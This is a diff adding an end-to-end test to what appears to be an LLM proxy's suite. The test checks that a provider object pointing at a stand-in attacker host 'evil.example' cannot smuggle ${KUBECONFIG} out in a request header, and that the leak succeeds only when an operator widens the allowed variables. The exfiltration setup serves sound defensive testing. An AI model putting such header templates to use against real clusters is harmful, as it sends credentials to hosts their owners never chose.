@@ -16,7 +16,7 @@ from playwright.sync_api import Page, expect
 
 from pointsman.demo.provider import Provider, Reply
 from pointsman.demo.server import ThreadedServer
-from tests.e2e.conftest import KEYS
+from tests.e2e.conftest import KEYS, StartFar
 from tests.e2e.harness import (
     DEADLINE,
     LOOPBACK,
@@ -217,6 +217,33 @@ def test_a_start_with_options_that_can_not_be_fails(
     assert proxy.wait() == 1
     assert message in proxy.printed
     assert "Traceback" not in proxy.printed
+
+
+def test_an_object_gets_no_secret_but_keys(
+    start: Start, cluster: Cluster, start_far: StartFar
+) -> None:
+    """Who may write objects sends what they name to a host of their own."""
+    evil = start_far("evil", "evil.example")
+    configs = openai_config(model="m", headers={"x-leak": "${KUBECONFIG}"})
+    cluster.apply(evil.manifest(configs=configs))
+    url = "http://evil.example/v1/chat/completions"
+    proxy = start(ALL, "llm_status=true")
+    assert_refused(ask(proxy, url), 503, "no_target")
+    proxy.entry()
+
+    def accepted() -> str:
+        found = cluster.conditions("LLMProvider", "evil").get("Accepted", {})
+        return f"{found.get('status')} {found.get('message')}"
+
+    eventually(lambda: accepted().startswith("False"), what="the status")
+    field = "spec.configs.defaultConfig.openAIConfig.headers.x-leak"
+    assert f"{field}: objects may name only variables *_API_KEY; rename this one" in accepted()
+    assert not evil.provider.calls
+
+    trusting = start(ALL, "llm_key_variables=*_API_KEY,KUBECONFIG")
+    assert said(ask(trusting, url))
+    assert evil.call().header("x-leak") == str(cluster.kubeconfig)
+    trusting.entry()
 
 
 # --- what is told of them ------------------------------------------------------------------------
